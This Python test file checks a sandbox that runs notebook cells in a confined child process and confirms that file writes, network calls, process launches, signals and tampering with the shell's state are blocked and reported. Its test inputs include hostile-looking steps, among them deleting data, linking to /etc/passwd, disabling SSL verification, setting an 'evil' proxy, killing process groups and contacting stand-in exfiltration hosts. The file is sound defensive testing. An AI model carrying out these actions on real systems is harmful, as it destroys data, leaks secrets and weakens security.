"""Trials in a real fork of an IPython shell: whatever a step tries, nothing reaches the files,
the network, other processes or the shell itself, and the report says what it tried.

Every effect is checked on the world, not on the report: the folder's listing, a loopback
listener's count, a process still alive, the shell's own namespace and modules."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from chapyter_ext.trial import RAN, TIMEOUT, TrialLimits, TrialReport, run_trial
from chapyter_ext.trial.confine import unavailable

from .witnesses import TcpWitness, UdpWitness, folder_state

pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))


@pytest.fixture
def world(shell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The shell in a folder of its own with a few files, a listener and its port."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "data.csv").write_text("a,b\n1,2\n3,4\n")
    (tmp_path / "keep").mkdir()
    (tmp_path / "keep" / "notes.txt").write_text("notes\n")
    tcp, udp = TcpWitness(), UdpWitness()
    shell.run_cell(
        "import pandas as pd\n"
        f"PORT, DNS_PORT = {tcp.port}, {udp.port}\n"
        "df = pd.read_csv('data.csv')\n"
    )
    yield shell, tmp_path, tcp, udp
    tcp.close()
    udp.close()


def trial(shell, code: str, **limits) -> TrialReport:
    return run_trial(shell, code, TrialLimits(**{"time_limit": 20.0, **limits}))


WRITES = {
    "open for writing": "open('out.txt', 'w').write('x')",
    "append to a file": "open('data.csv', 'a').write('5,6\\n')",
    "pathlib": "from pathlib import Path\nPath('p.txt').write_text('x')",
    "to_csv": "df.to_csv('copy.csv')",
    "delete": "import os\nos.remove('data.csv')",
    "rename": "import os\nos.rename('data.csv', 'moved.csv')",
    "rmtree": "import shutil\nshutil.rmtree('keep')",
    "mkdir": "import os\nos.makedirs('new/dir')",
    "chmod": "import os\nos.chmod('data.csv', 0o777)",
    "utime": "import os\nos.utime('data.csv', (0, 0))",
    "symlink": "import os\nos.symlink('/etc/passwd', 'link')",
    "hard link": "import os\nos.link('data.csv', 'keep/hard.csv')",
    "truncate": "import os\nos.truncate('data.csv', 0)",
    "numpy save": "import numpy as np\nnp.save('arr.npy', np.arange(3))",
    "sqlite": (
        "import sqlite3\nc = sqlite3.connect('new.db')\nc.execute('create table t(x)')\nc.commit()"
    ),
    "archive": (
        "import tarfile, io\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\n"
        "i = tarfile.TarInfo('x.txt'); i.size = 1\nt.addfile(i, io.BytesIO(b'x')); t.close()\n"
        "b.seek(0); tarfile.open(fileobj=b).extractall('.')"
    ),
    "a write hidden in try": "try:\n    open('quiet.txt', 'w')\nexcept Exception:\n    pass",
    "a temporary file": "import tempfile\ntempfile.NamedTemporaryFile(delete=False).write(b'x')",
}


@pytest.mark.parametrize("code", WRITES.values(), ids=WRITES.keys())
def test_no_write_lands_and_each_is_reported(world, code):
    shell, folder, _, _ = world
    before = folder_state(folder)
    report = trial(shell, code)
    assert folder_state(folder) == before
    assert report.status == RAN
    assert report.concerns() and not report.clean


def test_files_the_kernel_already_holds_open_stay_as_they_were(world):
    """A descriptor open for writing before the trial, a read-write memmap, a SQLite
    connection: the child gets read-only copies, so nothing it does reaches the files."""
    shell, folder, _, _ = world
    shell.run_cell(
        "import sqlite3, numpy as np\n"
        "log = open('log.txt', 'a')\n"
        "db = sqlite3.connect('kept.db'); db.execute('create table t(x)'); db.commit()\n"
        "m = np.memmap('m.dat', dtype='uint8', mode='w+', shape=(4096,)); m.flush()\n"
    )
    before = folder_state(folder)
    for code in (
        "log.write('evil\\n'); log.flush()",
        "db.execute('insert into t values (1)'); db.commit()",
        "m[:] = 7; m.flush()",
        "import os\nos.write(log.fileno(), b'raw')",
    ):
        report = trial(shell, code)
        assert not report.clean, code
    assert folder_state(folder) == before
    shell.run_cell("db.close(); log.close(); del m")
    assert (folder / "m.dat").read_bytes() == bytes(4096)


NETWORK = {
    "connect": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2)",
    "urllib": (
        "import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{PORT}/x', timeout=2)"
    ),
    "http.client": (
        "import http.client\nc = http.client.HTTPConnection('127.0.0.1', PORT, timeout=2)\n"
        "c.request('GET', '/')"
    ),
    "pandas reads a URL": "pd.read_csv(f'http://127.0.0.1:{PORT}/data.csv')",
    "udp": (
        "import socket\nudp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "udp.sendto(b'q', ('127.0.0.1', DNS_PORT))"
    ),
    "lookup": "import socket\nsocket.getaddrinfo('secret-data.example.com', 80)",
    "hidden in try": (
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', PORT), timeout=2)\n"
        "except OSError:\n    pass"
    ),
}


@pytest.mark.parametrize("code", NETWORK.values(), ids=NETWORK.keys())
def test_nothing_reaches_the_network(world, code):
    shell, _, tcp, udp = world
    report = trial(shell, code)
    time.sleep(0.1)
    assert tcp.count == 0
    assert udp.count() == 0
    assert not report.clean
    assert any(("connect" in c or "socket" in c or "look up" in c) for c in report.concerns())


def test_a_socket_the_kernel_holds_carries_nothing(world):
    shell, _, _, _ = world
    ours, theirs = socket.socketpair()
    theirs.setblocking(False)
    shell.user_ns["held"] = ours
    report = trial(shell, "held.sendall(b'secret')")
    assert not report.clean
    with pytest.raises(BlockingIOError):
        theirs.recv(100)
    ours.close()
    theirs.close()


PROCESSES = {
    "subprocess": "import subprocess\nsubprocess.run(['touch', 'marker'])",
    "os.system": "import os\nos.system('touch marker')",
    "shell escape": "!touch marker",
    "fork": "import os\nif os.fork() == 0:\n    open('marker', 'w')\n    os._exit(0)",
    "multiprocessing": (
        "import multiprocessing as mp\np = mp.Process(target=open, args=('marker', 'w'))\n"
        "p.start(); p.join()"
    ),
    "posix_spawn": "import os\nos.posix_spawn('/usr/bin/touch', ['touch', 'marker'], {})",
}


@pytest.mark.parametrize("code", PROCESSES.values(), ids=PROCESSES.keys())
def test_no_process_starts(world, code):
    shell, folder, _, _ = world
    report = trial(shell, code)
    time.sleep(0.1)
    assert not (folder / "marker").exists()
    assert not report.clean


def test_no_signal_reaches_another_process(world):
    shell, _, _, _ = world
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        shell.user_ns["PID"] = sleeper.pid
        for code in (
            "import os, signal\nos.kill(PID, signal.SIGKILL)",
            "import os, signal\nos.kill(os.getppid(), signal.SIGTERM)",
            "import os, signal\nos.killpg(0, signal.SIGKILL)",
        ):
            report = trial(shell, code)
            assert not report.clean, code
        time.sleep(0.2)
        assert sleeper.poll() is None
    finally:
        sleeper.kill()
        sleeper.wait()


def test_the_shell_keeps_its_state(world):
    shell, _, _, _ = world
    count = shell.execution_count
    environ = dict(os.environ)
    cwd = os.getcwd()
    report = trial(
        shell,
        "import os, ssl, sys\n"
        "df['c'] = 1\nnew_name = 5\ndel PORT\n"
        "ssl._create_default_https_context = ssl._create_unverified_context\n"
        "os.environ['HTTPS_PROXY'] = 'http://evil'\nsys.path.insert(0, '/tmp/evil')\n"
        "os.chdir('/')\nprint('hello')",
    )
    import ssl

    assert list(shell.user_ns["df"].columns) == ["a", "b"]
    assert "new_name" not in shell.user_ns and "PORT" in shell.user_ns
    assert ssl._create_default_https_context is ssl.create_default_context
    assert dict(os.environ) == environ and os.getcwd() == cwd
    assert "/tmp/evil" not in sys.path
    assert shell.execution_count == count
    concerns = " | ".join(report.concerns())
    for said in ("ssl._create_default_https_context", "HTTPS_PROXY", "how modules are imported"):
        assert said in concerns
    preview = report.preview()
    assert "prints: hello" in preview
    assert any(line.startswith("changes df") for line in preview)
    assert any(line.startswith("creates new_name") for line in preview)
    assert "deletes PORT" in preview


def test_an_everyday_step_is_clean_and_previewed(world):
    shell, _, _, _ = world
    report = trial(shell, "total = df['a'].sum()\nprint(total)\ndf.describe()")
    assert report.clean, report.concerns()
    preview = report.preview()
    assert preview[0] == "prints: 4"
    assert any(line.startswith("returns:") for line in preview)
    assert any(line.startswith("creates total") for line in preview)


def test_remote_content_in_a_display_is_a_concern(world):
    shell, _, _, _ = world
    for code in (
        "from IPython.display import Markdown, display\n"
        "display(Markdown('![](//127.0.0.1:9/x.png)'))",
        "from IPython.display import HTML\nHTML('<img src=\"https://evil.example/a.png\">')",
    ):
        report = trial(shell, code)
        assert any("loads an image from" in c for c in report.concerns()), code


def test_a_step_that_outruns_its_time_is_stopped(world):
    shell, _, _, _ = world
    started = time.monotonic()
    report = trial(shell, "import time\ntime.sleep(60)", time_limit=1.0)
    assert time.monotonic() - started < 5
    assert report.status == TIMEOUT
    assert report.concerns() == ["the trial stopped after 1 s; nothing attempted so far"]
    code = "try:\n    open('x.txt', 'w')\nexcept OSError:\n    pass\nimport time\ntime.sleep(60)"
    report = trial(shell, code, time_limit=1.0)
    assert report.concerns()[:2] == ["the trial stopped after 1 s", "tried to write x.txt"]


def test_a_step_over_its_memory_is_stopped(world):
    shell, _, _, _ = world
    report = trial(shell, "big = bytearray(2 * 1024**3)", memory_mb=256)
    assert "it needed more memory than the trial allows" in report.concerns()


def test_a_step_that_asks_for_input_asks(world):
    shell, _, _, _ = world
    assert "it asks for input" in trial(shell, "name = input('name? ')").concerns()


def test_the_report_reads_back_bounded():
    with pytest.raises(ValueError):
        TrialReport.from_dict({"status": "bogus"})
    report = TrialReport.from_dict(
        {
            "status": "ran",
            "stdout": "x" * 100_000,
            "attempts": [{"kind": "write", "target": "a", "line": "tried to write a"}] * 1000,
            "variables": {"created": ["a"] * 1000, "changed": "not a list"},
            "error": {"ename": "E", "evalue": "v", "refused": "yes"},
        }
    )
    assert len(report.stdout) == 8000
    assert len(report.attempts) == 200 and len(report.created) == 40
    assert report.changed == [] and report.error == {
        "ename": "E",
        "evalue": "v",
        "refused": False,
        "memory": False,
    }
    again = TrialReport.from_dict(report.as_dict())
    assert again.as_dict() == report.as_dict()


@pytest.mark.skipif(os.geteuid() != 0, reason="runs as root to become another user")
def test_confinement_holds_for_an_unprivileged_kernel(world):
    """The same trials in a kernel process that dropped to ``nobody``: Landlock and seccomp
    need no privilege (no_new_privs is set by the child)."""
    shell, folder, tcp, _ = world
    os.chmod(folder, 0o777)
    # What the trial needs is imported while the files are readable: the interpreter here may
    # live in a folder nobody cannot read (/root/.pyenv).
    trial(shell, "x = 1")
    "x".encode("idna")
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the unprivileged "kernel"
        code = 1
        try:
            os.close(read)
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)
            reports = [
                trial(shell, "open('nobody.txt', 'w')"),
                trial(shell, "import socket\nsocket.create_connection(('127.0.0.1', PORT))"),
                trial(shell, "import subprocess\nsubprocess.run(['touch', 'marker'])"),
                trial(shell, "y = 2"),
            ]
            flags = b"".join(b"1" if r.clean else b"0" for r in reports)
            os.write(write, flags)
            code = 0
        finally:
            os._exit(code)
    os.close(write)
    _, status = os.waitpid(pid, 0)
    flags = os.read(read, 16)
    os.close(read)
    assert os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    assert flags == b"0001"
    assert not (folder / "nobody.txt").exists() and not (folder / "marker").exists()
    assert tcp.count == 0


def test_the_child_dies_with_its_kernel(tmp_path):
    """kill -9 of the kernel during a trial: the confined child goes too."""
    script = tmp_path / "kernel.py"
    script.write_text(
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "from chapyter_ext.trial import run_trial, TrialLimits\n"
        "shell = InteractiveShell.instance()\n"
        "print('ready', flush=True)\n"
        "run_trial(shell, 'import time\\ntime.sleep(120)', TrialLimits(time_limit=120))\n"
    )
    kernel = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True)
    try:
        assert kernel.stdout is not None and kernel.stdout.readline().strip() == "ready"
        child = None
        for _ in range(100):
            found = subprocess.run(
                ["pgrep", "-P", str(kernel.pid)], capture_output=True, text=True
            ).stdout.split()
            if found:
                child = int(found[0])
                break
            time.sleep(0.05)
        assert child is not None, "the trial's child never started"
        os.kill(kernel.pid, signal.SIGKILL)
        kernel.wait()
        for _ in range(100):
            if not Path(f"/proc/{child}").exists() or "Z" in _state(child):
                break
            time.sleep(0.05)
        assert not Path(f"/proc/{child}").exists() or "Z" in _state(child)
    finally:
        kernel.kill()
        kernel.wait()


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
    except OSError:
        return "Z"
